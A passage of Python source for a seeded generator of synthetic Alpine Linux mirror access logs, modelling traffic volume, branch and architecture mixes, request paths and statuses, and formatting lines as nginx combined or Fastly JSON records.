    """
    w = np.zeros(len(world.path_branches))
    for i, b in enumerate(world.branches):
        age = (day - b.released).days
        if age < 0:
            continue
        ramp = 1.0 - math.exp(-(age + 1) / 75)
        w[i] = ramp * (0.85 * math.exp(-age / 650) + 0.09 * math.exp(-age / 2500))
    if w.sum() == 0:  # before the first branch: edge only
        w[-1] = 1.0
        return w
    w *= 0.82 / w.sum()
    w[-2] = 0.10  # latest-stable
    w[-1] = 0.08  # edge
    return w / w.sum()


def _arch_cdf(world: _World, day: dt.date) -> np.ndarray:
    """Per resolved branch (stable..., edge): cumulative arch shares over ARCHES."""
    years = (day - dt.date(2026, 1, 1)).days / 365.25
    weights = ARCH_WEIGHTS.copy()
    # aarch64 keeps growing (cloud ARM instances, Apple silicon); i386 fades.
    weights[ARCHES.index("aarch64")] *= float(np.clip(1 + 0.15 * years, 0.5, 1.8))
    weights[ARCHES.index("x86")] *= float(np.clip(1 - 0.1 * years, 0.3, 1.5))
    rows = []
    edge_arches = set(ARCHES) - {"mips64"}
    for arches in [b.arches for b in world.branches] + [frozenset(edge_arches)]:
        w = np.array([weights[i] if a in arches else 0.0 for i, a in enumerate(ARCHES)])
        c = np.cumsum(w)
        c /= c[-1]
        c[-1] = 1.0
        rows.append(c)
    return np.array(rows)


def _release_bump(world: _World, day: dt.date) -> float:
    """Extra release traffic in the weeks after an x.y.0 release (the May/November bump).

    Patch releases are left out: the calendar knows only the latest patch date per branch.
    """
    bump = 1.0
    for b in world.branches:
        age = (day - b.released).days
        if 0 <= age < 60:
            bump += 2.5 * math.exp(-age / 6)
    return bump


# Requests per weekday relative to an ordinary weekday (Monday first): CI and builds run on
# working days, servers check in every day.
WEEKDAY_VOLUME = (1.04, 1.05, 1.05, 1.04, 1.0, 0.86, 0.84)
TREND_EPOCH = dt.date(2026, 1, 1)
TREND_PER_YEAR = 0.15  # request growth per year
RELEASE_VOLUME = 0.12  # extra volume per unit of release bump (day 0 of x.y.0: about +30%)


def daily_lines(world: _World, lines_per_day: int, day: dt.date, seed: int) -> int:
    """How many lines a day has: weekly cycle x trend x release bump x 2% noise."""
    noise = np.random.default_rng([seed, day.toordinal(), 7]).normal(0.0, 0.02)
    years = (day - TREND_EPOCH).days / 365.25
    factor = (
        WEEKDAY_VOLUME[day.weekday()]
        * (1 + TREND_PER_YEAR) ** years
        * (1 + RELEASE_VOLUME * (_release_bump(world, day) - 1))
        * (1 + noise)
    )
    return max(1, round(lines_per_day * factor))


def _type_cdf(bump: float) -> np.ndarray:
    """Per behaviour: cumulative request-type shares, release types scaled by the day's bump."""
    rows = []
    for weights, *_ in BEHAVIOURS.values():
        w = np.array([weights.get(t, 0.0) for t in TYPES])
        w[RELEASE_TYPES] *= bump
        c = np.cumsum(w)
        c /= c[-1]
        c[-1] = 1.0
        rows.append(c)
    return np.array(rows)


def _inverse_cdf(table: np.ndarray, row: np.ndarray, u: np.ndarray) -> np.ndarray:
    """Draws one category per line from row-specific cumulative tables (row = which table)."""
    n_rows, width = table.shape
    flat = (table + np.arange(n_rows)[:, None]).ravel()
    idx = np.searchsorted(flat, row + u, side="right") - row * width
    return np.minimum(idx, width - 1)


def _day_chunks(
    world: _World, vocab: _Vocab, day: dt.date, lines_per_day: int, fmt: str, seed: int
) -> Iterator[_Chunk]:
    """The day's lines in time order, as encoded blocks of about BLOCK_LINES lines."""
    rng = np.random.default_rng([seed, day.toordinal()])
    counts = _minute_group_counts(world, day, lines_per_day, rng)
    ctx = _DayContext.build(world, day, rng, fmt)
    per_minute = counts.sum(axis=1)
    cum = np.cumsum(per_minute)
    m0 = 0
    while m0 < 1440:
        # Whole minutes per block keep blocks in time order with no merging.
        m1 = int(np.searchsorted(cum, (cum[m0 - 1] if m0 else 0) + BLOCK_LINES, side="left")) + 1
        m1 = min(max(m1, m0 + 1), 1440)
        block = counts[m0:m1]
        n = int(block.sum())
        if n:
            flat = block.ravel()
            cells = np.repeat(np.arange(flat.size), flat)
            minute = m0 + cells // block.shape[1]
            group = cells % block.shape[1]
            yield _Chunk(_block(world, vocab, ctx, rng, minute, group, fmt), n)
        m0 = m1


@dataclass
class _DayContext:
    """Per-day tables: branch and arch mixes, request types, time strings, index sizes."""

    day: dt.date
    pb_cdf: np.ndarray
    pb_to_rb: np.ndarray
    newest: int
    arch_cdf: np.ndarray
    type_cdf: np.ndarray
    patch_now: np.ndarray  # per resolved branch: current k
    index_size: np.ndarray  # [rb, repo, arch]
    time_text: pl.Series  # per second of the UTC day
    group_cdf: np.ndarray  # per client: group id + cumulative share of its group's requests
    has_cloud: np.ndarray  # per resolved branch

    @classmethod
    def build(cls, world: _World, day: dt.date, rng: np.random.Generator, fmt: str) -> _DayContext:
        """Derives the day's tables from the calendar and the seed."""
        w = _branch_weights(world, day)
        pb_cdf = np.cumsum(w)
        pb_cdf[-1] = 1.0
        released = [i for i, b in enumerate(world.branches) if b.released <= day]
        newest = released[-1] if released else world.n_stable
        pb_to_rb = np.array([*range(world.n_stable), newest, world.n_stable])
        patch_now = np.array(
            [_patch_on(b, day) for b in world.branches]
            + [max(0, len([s for s in world.snapshots if s <= day.strftime("%Y%m%d")]) - 1)]
        )
        # Index sizes: main ~0.6 MB, community ~2 MB, testing ~1.2 MB; older branches smaller;
        # a little change every day (the index is rebuilt with each upload).
        n_rb = world.n_stable + 1
        age = np.array([n_rb - 1 - i for i in range(n_rb)])
        repo_base = np.array([620_000, 2_150_000, 1_240_000])
        index_size = (
            repo_base[None, :, None]
            * np.maximum(0.25, 1 - 0.035 * age)[:, None, None]
            * ARCH_SIZE[None, None, :]
            * rng.uniform(0.995, 1.005, (n_rb, len(REPOS), len(ARCHES)))
        ).astype(np.int64)
        has_cloud = np.array(
            [(b.major, b.minor) >= FIRST_CLOUD_BRANCH for b in world.branches] + [True]
        )
        return cls(
            day=day, pb_cdf=pb_cdf, pb_to_rb=pb_to_rb, newest=newest,
            arch_cdf=_arch_cdf(world, day), type_cdf=_type_cdf(_release_bump(world, day)),
            patch_now=patch_now, index_size=index_size,
            time_text=_time_strings(day, fmt, rng), has_cloud=has_cloud,
            group_cdf=_group_cdf(world, rng),
        )  # fmt: skip


def _group_cdf(world: _World, rng: np.random.Generator) -> np.ndarray:
    """Who is active today: per client, group id + cumulative activity within the group.

    Offsetting by the group id lets one searchsorted pick clients for lines of every group.
    """
    active = world.clients.activity * (
        rng.random(len(world.clients.activity)) < world.clients.p_active
    )
    out = np.empty(len(active))
    start = 0
    for g, end in enumerate(world.clients.group_end):
        c = np.cumsum(active[start:end])
        if c[-1] == 0:  # nobody of this group today: fall back to everyone
            c = np.cumsum(world.clients.activity[start:end])
        out[start:end] = g + c / c[-1]
        out[end - 1] = g + 1.0
        start = end
    return out


@cache
def _clock() -> pl.Series:
    """HH:MM:SS for every second of a day (built once)."""
    return pl.Series(
        [f"{h:02d}:{m:02d}:{s:02d}" for h in range(24) for m in range(60) for s in range(60)]
    )


def _time_strings(day: dt.date, fmt: str, rng: np.random.Generator) -> pl.Series:
    """The time field for each second of the UTC day.

    combined: `20/Nov/2026:10:00:00 +0000`; about one day in five is logged in a non-UTC offset
    (a mirror whose clock is local time), still the same instant.
    fastly: `2026-11-20T10:00:00` (milliseconds and `Z` are added per line).
    """
    seconds = np.arange(86_400)
    local_clock = fmt == "combined" and rng.random() < 0.2
    offset = int(rng.choice([60, 120, -300])) if local_clock else 0
    local = seconds + offset * 60
    day_index = local // 86_400 + 1  # 0 = previous day, 1 = this day, 2 = next day
    sec_of_day = local % 86_400
    dates = [day + dt.timedelta(days=d) for d in (-1, 0, 1)]
    if fmt == "fastly":
        heads = [d.isoformat() + "T" for d in dates]
        tail = ""
    else:
        heads = [d.strftime("%d/%b/%Y:") for d in dates]
        sign = "+" if offset >= 0 else "-"
        tail = f" {sign}{abs(offset) // 60:02d}{abs(offset) % 60:02d}"
    frame = pl.DataFrame(
        {"head": pl.Series(heads).gather(day_index), "hms": _clock().gather(sec_of_day)}
    )
    return frame.select(pl.concat_str([pl.col("head"), pl.col("hms"), pl.lit(tail)])).to_series()


# --- One block of lines --------------------------------------------------------------------------

# Per behaviour: protocol mix (HTTP/1.1, HTTP/2, HTTP/1.0, HTTP/3; combined logs HTTP/3 as 2.0).
_PROTO = {"browser": [0.05, 0.75, 0.0, 0.2], "curl": [0.6, 0.4, 0.0, 0.0],
          "go": [0.8, 0.2, 0.0, 0.0], "buildkit": [0.5, 0.5, 0.0, 0.0],
          "crawler": [0.6, 0.4, 0.0, 0.0], "scanner": [0.55, 0.0, 0.45, 0.0]}  # fmt: skip
PROTO_CDF = np.array([np.cumsum(_PROTO.get(b, [1.0, 0.0, 0.0, 0.0])) for b in BEHAVIOURS])
FLAVOR_CDF = np.array([np.cumsum(v) / np.sum(v) for v in FLAVOR_MIX.values()])
BEH_FLAVOR_GROUP = np.array([list(FLAVOR_MIX).index(v[2]) for v in BEHAVIOURS.values()])
BEH_P304 = np.array([v[1] for v in BEHAVIOURS.values()])
BEH_HEAD = np.array([v[3] for v in BEHAVIOURS.values()])
BEH_206 = np.array([v[4] for v in BEHAVIOURS.values()])
FLAVOR_OK = np.array([[a in FLAVOR_ARCHES[f] for f in FLAVORS] for a in ARCHES])
JUNK_CDF = np.cumsum([j[3] for j in JUNK]) / sum(j[3] for j in JUNK)
NETBOOT_CDF = np.cumsum([0.2, 0.2, 0.2, 0.13, 0.13, 0.14])
CLOUD_CDF = np.cumsum([0.3, 0.35, 0.25, 0.1])
YAML_ARCH = np.array([1.0, 0.82, 0.6, 0.45, 0.9, 0.6, 0.6, 0.5, 0.5, 0.4])
# Error pages as nginx sends them (bytes): 404, 400 (bad request), 405, 503.
BODY_404, BODY_400, BODY_405, BODY_503 = 153, 157, 157, 197
GARBAGE = (  # raw bytes a log line can hold: binary junk, invalid UTF-8 (never a newline)
    b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03\xff\xfe\x80\x81\x00\x00\x1c\xc0+\xc0/\x00",
    b"\xef\xbf\xbd\xc3\x28 \xa0\xa1 GET /alpine/ \x00\x00",
)


@dataclass(frozen=True)
class _Asked:
    """What each line of a block asks for, before its path is filled in (codes per line)."""

    typ: np.ndarray  # request type (T)
    beh: np.ndarray  # the client's behaviour (BEH)
    pb: np.ndarray  # branch as requested (path_branches)
    rb: np.ndarray  # branch as resolved
    arch: np.ndarray
    hh: np.ndarray  # the heavy hitter asking, or -1


@dataclass
class _Cols:
    """Per-line codes while a block is being built."""

    prefix: np.ndarray
    file: np.ndarray
    query: np.ndarray
    size: np.ndarray  # the whole object's size
    status: np.ndarray
    method: np.ndarray
    referer: np.ndarray
    miss_p: np.ndarray
    big: np.ndarray  # large downloads: may be partial (206) or cut short

    @classmethod
    def empty(cls, n: int) -> _Cols:
        """All GET 200, no query/referer, nothing known yet."""
        return cls(
            prefix=np.zeros(n, np.int64), file=np.zeros(n, np.int64), query=np.zeros(n, np.int64),
            size=np.zeros(n, np.int64), status=np.full(n, 200, np.int64),
            method=np.zeros(n, np.int64), referer=np.zeros(n, np.int64),
            miss_p=np.full(n, 0.03), big=np.zeros(n, bool),
        )  # fmt: skip


def _block(
    world: _World,
    vocab: _Vocab,
    ctx: _DayContext,
    rng: np.random.Generator,
    minute: np.ndarray,
    group: np.ndarray,
    fmt: str,
) -> list[bytes | memoryview]:
    """Builds, formats and encodes one block of lines (already restricted to whole minutes).

    The steps draw from `rng` in a fixed order (who, where, what, how it went, how it is logged):
    the same seed gives the same bytes.
    """
    ts_ms, client = _who_and_when(world, ctx, rng, minute, group)
    beh = world.clients.beh[client].astype(np.int64)
    hh = world.clients.hh[client]
    pb, rb, arch = _branch_and_arch(world, ctx, rng, client, hh)
    typ = _inverse_cdf(ctx.type_cdf, beh, rng.random(len(client)))
    cols = _Cols.empty(len(client))
    _Paths(world, ctx, rng, cols, _Asked(typ, beh, pb, rb, arch, hh)).fill()
    body, head, purge = _responses(rng, cols, beh, fmt)
    proto = _inverse_cdf(PROTO_CDF, beh, rng.random(len(client)))
    # The columns both formats write; each adds its own and lays the line out.
    shared = {
        "ip": vocab.ips.gather(client),
        "method": vocab.methods.gather(cols.method),
        "prefix": vocab.prefix.gather(cols.prefix),
        "file": vocab.files.gather(cols.file),
        "query": vocab.queries.gather(cols.query),
        "proto": vocab.protocols.gather(proto),
        "status": cols.status,
        "bytes": body,
        "referer": vocab.referers.gather(cols.referer),
        "ua": vocab.uas.gather(world.clients.ua[client]),
    }
    if fmt == "combined":
        lines = _combined_lines(ctx, shared, ts_ms)
    else:
        state, elapsed = _cache_and_timing(world, rng, cols, client, body, purge, head)
        lines = _fastly_lines(world, vocab, ctx, rng, shared, client, ts_ms, state, elapsed)
    lines, raw_lines = _malform(world, ctx, rng, lines, client, ts_ms, fmt)
    return _encoded(lines, raw_lines)


def _who_and_when(
    world: _World, ctx: _DayContext, rng: np.random.Generator, minute: np.ndarray, group: np.ndarray
) -> tuple[np.ndarray, np.ndarray]:
    """Each line's time (ms of the day, in order) and client (one of its group's, by activity)."""
    n = len(minute)
    ts_ms = minute.astype(np.int64) * 60_000 + rng.integers(0, 60_000, n)
    order = np.argsort(ts_ms, kind="stable")
    ts_ms, group = ts_ms[order], group[order]
    client = np.searchsorted(ctx.group_cdf, group + rng.random(n), side="right")
    client = np.minimum(client, world.clients.group_end[group] - 1)
    return ts_ms, client


def _branch_and_arch(
    world: _World, ctx: _DayContext, rng: np.random.Generator, client: np.ndarray, hh: np.ndarray
) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Each line's branch as requested (`pb`), as resolved (`rb`), and arch.

    Mostly the client's own (a fixed random number walked through the day's cumulative mix, so
    clients move to newer branches as releases come out), sometimes another; heavy hitters keep
    to theirs.
    """
    n = len(client)
    n_pb = len(world.path_branches)
    ub = np.where(rng.random(n) < 0.9, world.clients.u_branch[client], rng.random(n))
    pb = np.minimum(np.searchsorted(ctx.pb_cdf, ub, side="right"), n_pb - 1)
    ua = np.where(rng.random(n) < 0.95, world.clients.u_arch[client], rng.random(n))
    is_hh = hh >= 0
    if is_hh.any():
        choices = {"second-newest": max(ctx.newest - 1, 0) if ctx.newest < world.n_stable
                   else n_pb - 1, "edge": n_pb - 1, "latest-stable": n_pb - 2}  # fmt: skip
        hh_pb = np.array([choices[h[2]] for h in HEAVY_HITTERS])
        pb[is_hh] = hh_pb[hh[is_hh]]
    rb = ctx.pb_to_rb[pb]
    arch = _inverse_cdf(ctx.arch_cdf, rb, ua)
    if is_hh.any():
        for h, (_c, _s, _b, arches, _n) in enumerate(HEAVY_HITTERS):
            m = hh == h
            pick = np.array([ARCHES.index(a) for a in arches])
            arch[m] = pick[rng.integers(0, len(pick), int(m.sum()))]
    return pb, rb, arch


def _responses(
    rng: np.random.Generator, cols: _Cols, beh: np.ndarray, fmt: str
) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """HEAD requests, partial and aborted downloads, overload and error bodies: sets the methods
    and statuses in `cols`; returns the body bytes and the HEAD and PURGE masks."""
    n = len(beh)
    u = rng.random(n)
    head = cols.big & (u < BEH_HEAD[beh])
    cols.method[head] = METHODS.index("HEAD")
    body = cols.size.copy()
    partial = cols.big & ~head & (rng.random(n) < BEH_206[beh]) & (cols.status == 200)
    cols.status[partial] = 206
    frac = rng.uniform(0.001, 0.95, n)
    body[partial] = (cols.size[partial] * frac[partial]).astype(np.int64)
    aborted = cols.big & ~head & ~partial & (rng.random(n) < 0.04) & (cols.status == 200)
    body[aborted] = (cols.size[aborted] * frac[aborted]).astype(np.int64)
    unavailable = rng.random(n) < 0.0002  # origin overloaded
    cols.status[unavailable] = 503
    body[head | (cols.status == 304)] = 0
    body[cols.status == 404] = BODY_404
    body[cols.status == 503] = BODY_503
    purge = cols.method == METHODS.index("PURGE")
    if fmt == "combined":  # nginx refuses PURGE; Fastly answers it with a small JSON body
        cols.status[purge] = 405
        body[purge] = BODY_405
    else:
        body[purge] = 46
    return body, head, purge


def _combined_lines(ctx: _DayContext, shared: dict[str, object], ts_ms: np.ndarray) -> pl.Series:
    """nginx's combined format, as the T1 mirrors log it."""
    frame = pl.DataFrame({**shared, "time": ctx.time_text.gather(ts_ms // 1000)})
    line = pl.concat_str(
        pl.col("ip"), pl.lit(" - - ["), pl.col("time"), pl.lit('] "'), pl.col("method"),
        pl.lit(" "), pl.col("prefix"), pl.col("file"), pl.col("query"), pl.lit(" "),
        pl.col("proto"), pl.lit('" '), pl.col("status").cast(pl.String), pl.lit(" "),
        pl.col("bytes").cast(pl.String), pl.lit(' "'), pl.col("referer"), pl.lit('" "'),
        pl.col("ua"), pl.lit('"'),
    )  # fmt: skip
    return frame.select(line.alias("line")).to_series()


def _fastly_lines(
    world: _World,
    vocab: _Vocab,
    ctx: _DayContext,
    rng: np.random.Generator,
    shared: dict[str, object],
    client: np.ndarray,
    ts_ms: np.ndarray,
    state: np.ndarray,
    elapsed: np.ndarray,
) -> pl.Series:
    """Fastly's JSON log streaming behind a syslog prefix, from the cache node of the client's
    POP."""
    pop = world.clients.pop[client].astype(np.int64)
    node = pop * NODES_PER_POP + rng.integers(0, NODES_PER_POP, len(client))
    frame = pl.DataFrame(
        {
            **shared,
            "sec": ctx.time_text.gather(ts_ms // 1000),
            "ms": vocab.digits3.gather(ts_ms % 1000),
            "node": vocab.nodes.gather(node),
            "pop": vocab.pops.gather(pop),
            "state": vocab.states.gather(state),
            "elapsed": elapsed,
        }
    )
    line = pl.concat_str(
        pl.lit("<134>"), pl.col("sec"), pl.lit("Z "), pl.col("node"),
        pl.lit(f' {SYSLOG_TAG}: {{"timestamp":"'), pl.col("sec"), pl.lit("."), pl.col("ms"),
        pl.lit('Z","client_ip":"'), pl.col("ip"), pl.lit('","request_method":"'),
        pl.col("method"), pl.lit('","url":"'), pl.col("prefix"), pl.col("file"),
        pl.col("query"), pl.lit('","request_protocol":"'), pl.col("proto"),
        pl.lit('","response_status":'), pl.col("status").cast(pl.String),
        pl.lit(',"response_body_size":'), pl.col("bytes").cast(pl.String),
        pl.lit(',"request_user_agent":'), pl.col("ua"), pl.lit(',"request_referer":'),
        pl.col("referer"), pl.lit(',"server_datacenter":"'), pl.col("pop"),
        pl.lit('","response_state":"'), pl.col("state"), pl.lit('","time_elapsed":'),
        pl.col("elapsed").cast(pl.String), pl.lit(f',"host":"{HOST}"}}'),
    )  # fmt: skip
    return frame.select(line.alias("line")).to_series()


def _encoded(lines: pl.Series, raw_lines: list[tuple[int, bytes]]) -> list[bytes | memoryview]:
    """The block's bytes: the lines as UTF-8, with the raw-byte lines (empty in the text)
    spliced in at their line's offset."""
    data = memoryview((lines.str.join("\n").item() + "\n").encode())
    if not raw_lines:
        return [data]
    ends = np.cumsum(lines.str.len_bytes().to_numpy().astype(np.int64) + 1)
    parts: list[bytes | memoryview] = []
    prev = 0
    for p, raw in raw_lines:
        at = int(ends[p - 1]) if p else 0
        parts += [data[prev:at], raw]
        prev = at
    parts.append(data[prev:])
    return parts


@dataclass
class _Paths:
    """Fills in the path (prefix and file), size, status and cache odds of each line of a block
    from what it asks for, one kind of request at a time."""

    world: _World
    ctx: _DayContext
    rng: np.random.Generator
    cols: _Cols
    asked: _Asked

    def fill(self) -> None:
        self.tree()
        self.release()
        self.other()

    def tree(self) -> None:
        """Index and package requests: /alpine/<branch>/<repo>/<arch>/<file>."""
        has_community = np.array(
            [(b.major, b.minor) >= (3, 3) for b in self.world.branches] + [True], dtype=bool
        )
        index = np.flatnonzero(self.asked.typ == T["apkindex"])
        self.index(index, has_community)
        packages = np.flatnonzero(self.asked.typ == T["package"])
        self.packages(packages, has_community)
        # A few requests for a branch/arch pair that does not exist (v3.16/main/riscv64): 404.
        arch_ok = np.diff(self.ctx.arch_cdf, axis=1, prepend=0.0) > 0
        both = np.concatenate([index, packages])
        odd = both[self.rng.random(len(both)) < 0.003]
        new_arch = self.rng.integers(0, len(ARCHES), len(odd))
        missing = ~arch_ok[self.asked.rb[odd], new_arch]
        odd, new_arch = odd[missing], new_arch[missing]
        self.cols.prefix[odd] += new_arch - self.asked.arch[odd]
        self.cols.status[odd] = 404
        self.cols.big[odd] = False

    def index(self, ix: np.ndarray, has_community: np.ndarray) -> None:
        """APKINDEX.tar.gz of main or community (edge: testing too); apk's refreshes get 304s."""
        n_r, n_a = len(REPOS), len(ARCHES)
        u = self.rng.random(len(ix))
        is_edge = self.asked.rb[ix] == self.world.n_stable
        repo = np.where(is_edge, np.searchsorted([0.5, 0.92], u, side="right"), (u >= 0.53) * 1)
        repo = np.where(has_community[self.asked.rb[ix]], repo, 0)
        self.cols.prefix[ix] = (
            self.world.off["p_tree"] + (self.asked.pb[ix] * n_r + repo) * n_a + self.asked.arch[ix]
        )
        self.cols.file[ix] = self.world.off["f_apkindex"]
        self.cols.size[ix] = self.ctx.index_size[self.asked.rb[ix], repo, self.asked.arch[ix]]
        self.cols.status[ix] = np.where(
            self.rng.random(len(ix)) < BEH_P304[self.asked.beh[ix]], 304, 200
        )
        self.cols.miss_p[ix] = np.where(is_edge, 0.1, 0.04)

    def packages(self, ix: np.ndarray, has_community: np.ndarray) -> None:
        """.apk downloads by popularity (heavy hitters fetch their own few), some of a superseded
        version the mirror already deleted (404), and the odd PURGE."""
        n_r, n_a = len(REPOS), len(ARCHES)
        rbi = self.asked.rb[ix]
        is_edge = rbi == self.world.n_stable
        u = self.rng.random(len(ix))
        pkg = np.where(
            is_edge,
            np.searchsorted(self.world.pkg_cdf_edge, u, side="right"),
            np.searchsorted(self.world.pkg_cdf_stable, u, side="right"),
        )
        pkg = np.minimum(pkg, self.world.n_pkg - 1)
        m = self.asked.hh[ix] >= 0
        pkg[m] = self.world.hh_packages[
            self.rng.integers(0, len(self.world.hh_packages), int(m.sum()))
        ]
        repo = self.world.pkg_repo[pkg].astype(np.int64)
        repo = np.where(has_community[rbi] | (repo != 1), repo, 0)
        # A client with a stale index asks for a superseded file, which the mirror deleted.
        stale = (self.rng.random(len(ix)) < 0.03) & ~m
        self.cols.prefix[ix] = (
            self.world.off["p_tree"] + (self.asked.pb[ix] * n_r + repo) * n_a + self.asked.arch[ix]
        )
        self.cols.file[ix] = self.world.off["f_pkg"] + (rbi * self.world.n_pkg + pkg) * 2 + stale
        self.cols.size[ix] = (
            self.world.file_size[self.cols.file[ix]] * ARCH_SIZE[self.asked.arch[ix]]
        ).astype(np.int64)
        u = self.rng.random(len(ix))
        self.cols.status[ix] = np.where(stale, 404, np.where(u < 0.004, 304, 200))
        self.cols.big[ix] = self.cols.size[ix] > 5_000_000
        self.cols.miss_p[ix] = np.where(stale, 0.5, 0.01 + 0.45 * (pkg / self.world.n_pkg) ** 0.6)
        purge = (self.asked.beh[ix] == BEH["curl"]) & (self.rng.random(len(ix)) < 0.003)
        self.cols.method[ix[purge]] = METHODS.index("PURGE")

    def release(self) -> None:
        """Release artefacts under /alpine/<branch>/releases/: images, checksums, netboot, cloud."""
        images = np.flatnonzero(
            np.isin(self.asked.typ, [T["release"], T["checksum"], T["signature"]])
        )
        self.images(images)
        ix = np.flatnonzero(self.asked.typ == T["release_index"])
        rpb = _release_branch(self.world, self.ctx, self.rng, self.asked.pb[ix])
        self.cols.prefix[ix] = self.world.off["p_rel"] + rpb * len(ARCHES) + self.asked.arch[ix]
        self.cols.file[ix] = self.world.off["f_yaml"]
        self.cols.size[ix] = (6113 * YAML_ARCH[self.asked.arch[ix]]).astype(np.int64)
        self.netboot(np.flatnonzero(self.asked.typ == T["netboot"]))
        self.cloud(np.flatnonzero(self.asked.typ == T["cloud"]))

    def images(self, ix: np.ndarray) -> None:
        """Release images (a flavour the arch has) and their .sha256, .sha512 and .asc; people in
        browsers come from the downloads page."""
        n_a, n_fl, k_max = len(ARCHES), len(FLAVORS), self.world.max_k
        rpb = _release_branch(self.world, self.ctx, self.rng, self.asked.pb[ix])
        rrb = self.ctx.pb_to_rb[rpb]
        a = self.asked.arch[ix]
        flavor = _inverse_cdf(
            FLAVOR_CDF, BEH_FLAVOR_GROUP[self.asked.beh[ix]], self.rng.random(len(ix))
        )
        flavor = np.where(FLAVOR_OK[a, flavor], flavor, 0)
        k = _release_patch(self.ctx, self.rng, rrb)
        t = self.asked.typ[ix]
        ext = np.where(
            t == T["release"],
            0,
            np.where(t == T["signature"], 3, 1 + (self.rng.random(len(ix)) < 0.3)),
        )
        self.cols.prefix[ix] = self.world.off["p_rel"] + rpb * n_a + a
        self.cols.file[ix] = self.world.off["f_rel"] + (
            (((rrb * n_a + a) * n_fl + flavor) * k_max + k) * 4 + ext
        )
        self.cols.size[ix] = self.world.file_size[self.cols.file[ix]]
        self.cols.big[ix] = ext == 0
        old = k < self.ctx.patch_now[rrb]
        self.cols.miss_p[ix] = np.where(ext == 0, 0.05 + 0.25 * old, 0.03)
        people = (self.asked.beh[ix] == BEH["browser"]) & (self.rng.random(len(ix)) < 0.8)
        self.cols.referer[ix[people]] = np.where(self.rng.random(int(people.sum())) < 0.93, 1, 4)

    def netboot(self, ix: np.ndarray) -> None:
        """netboot-<version>/ kernels, initramfs and modloops (none for mips64)."""
        rpb = _release_branch(self.world, self.ctx, self.rng, self.asked.pb[ix])
        rrb = self.ctx.pb_to_rb[rpb]
        a = np.where(self.asked.arch[ix] == ARCHES.index("mips64"), 0, self.asked.arch[ix])
        k = _release_patch(self.ctx, self.rng, rrb)
        kfile = np.searchsorted(
            NETBOOT_CDF / NETBOOT_CDF[-1], self.rng.random(len(ix)), side="right"
        )
        self.cols.prefix[ix] = self.world.off["p_rel"] + rpb * len(ARCHES) + a
        self.cols.file[ix] = (
            self.world.off["f_netboot"] + (rrb * self.world.max_k + k) * len(NETBOOT_FILES) + kfile
        )
        self.cols.size[ix] = self.world.file_size[self.cols.file[ix]]
        self.cols.big[ix] = True
        self.cols.miss_p[ix] = 0.15

    def cloud(self, ix: np.ndarray) -> None:
        """Cloud images under releases/cloud/ (branches that have them, else the newest)."""
        k_max = self.world.max_k
        rpb = _release_branch(self.world, self.ctx, self.rng, self.asked.pb[ix])
        newest = (
            self.ctx.newest
            if self.ctx.newest < self.world.n_stable
            else len(self.world.path_branches) - 1
        )
        rpb = np.where(self.ctx.has_cloud[self.ctx.pb_to_rb[rpb]], rpb, newest)
        rrb = self.ctx.pb_to_rb[rpb]
        k = _release_patch(self.ctx, self.rng, rrb)
        cloud = np.searchsorted(CLOUD_CDF / CLOUD_CDF[-1], self.rng.random(len(ix)), side="right")
        carch = (self.rng.random(len(ix)) < 0.2).astype(np.int64)
        boot = (self.rng.random(len(ix)) < 0.5).astype(np.int64)
        sig = (self.rng.random(len(ix)) < 0.15).astype(np.int64)
        self.cols.prefix[ix] = self.world.off["p_cloud"] + rpb
        self.cols.file[ix] = self.world.off["f_cloud"] + (
            (((((rrb * k_max + k) * len(CLOUDS) + cloud) * 2 + carch) * 2 + boot) * 2) + sig
        )
        self.cols.size[ix] = self.world.file_size[self.cols.file[ix]]
        self.cols.big[ix] = sig == 0
        self.cols.miss_p[ix] = np.where(sig == 0, 0.2, 0.05)

    def other(self) -> None:
        """Mirror-root files, directory listings (autoindex) and paths outside the tree."""
        off = self.world.off
        n_r, n_a = len(REPOS), len(ARCHES)
        for name, file, size in (
            ("mirrors", "f_mirrors", 2663),
            ("last_updated", "f_last_updated", 11),
        ):
            ix = np.flatnonzero(self.asked.typ == T[name])
            self.cols.prefix[ix] = off["p_alpine"]
            self.cols.file[ix] = off[file]
            self.cols.size[ix] = size
            cache_buster = (self.asked.beh[ix] == BEH["python"]) & (self.rng.random(len(ix)) < 0.1)
            self.cols.query[ix[cache_buster]] = QUERIES.index("?nocache=1")

        ix = np.flatnonzero(self.asked.typ == T["directory"])
        u = self.rng.random(len(ix))
        level = np.searchsorted([0.15, 0.35, 0.65], u, side="right")
        repo = (self.rng.random(len(ix)) < 0.45).astype(np.int64)
        self.cols.prefix[ix] = np.select(
            [level == 0, level == 1, level == 2],
            [
                off["p_alpine"],
                off["p_branch"] + self.asked.pb[ix],
                off["p_repo"] + self.asked.pb[ix] * n_r + repo,
            ],
            off["p_tree"] + (self.asked.pb[ix] * n_r + repo) * n_a + self.asked.arch[ix],
        )
        self.cols.file[ix] = off["f_dir"]
        listing = np.where(repo == 0, 310_000, 3_600_000) * ARCH_SIZE[self.asked.arch[ix]]
        self.cols.size[ix] = np.select(
            [level == 0, level == 1, level == 2], [3_500, 1_100, 900], listing
        ).astype(np.int64)
        self.cols.miss_p[ix] = 0.5
        crawler = (self.asked.beh[ix] == BEH["crawler"]) & (self.rng.random(len(ix)) < 0.25)
        self.cols.query[ix[crawler]] = self.rng.integers(1, 4, int(crawler.sum()))
        people = (self.asked.beh[ix] == BEH["browser"]) & (self.rng.random(len(ix)) < 0.5)
        self.cols.referer[ix[people]] = np.where(self.rng.random(int(people.sum())) < 0.8, 2, 3)

        ix = np.flatnonzero(self.asked.typ == T["junk"])
        j = np.minimum(
            np.searchsorted(JUNK_CDF, self.rng.random(len(ix)), side="right"), len(JUNK) - 1
        )
        self.cols.prefix[ix] = off["p_root"]
        self.cols.file[ix] = off["f_junk"] + j
        self.cols.status[ix] = np.array([x[1] for x in JUNK])[j]
        self.cols.size[ix] = np.array([x[2] for x in JUNK])[j]
        post = self.rng.random(len(ix)) < np.array([x[4] for x in JUNK])[j]
        self.cols.method[ix[post]] = METHODS.index("POST")
        self.cols.miss_p[ix] = 1.0  # PASS or MISS, decided with the cache state


def _release_branch(
    world: _World, ctx: _DayContext, rng: np.random.Generator, pb: np.ndarray
) -> np.ndarray:
    """Branch of a release download: mostly the newest (or latest-stable), else the client's."""
    n_pb = len(world.path_branches)
    u = rng.random(len(pb))
    newest = ctx.newest if ctx.newest < world.n_stable else n_pb - 1
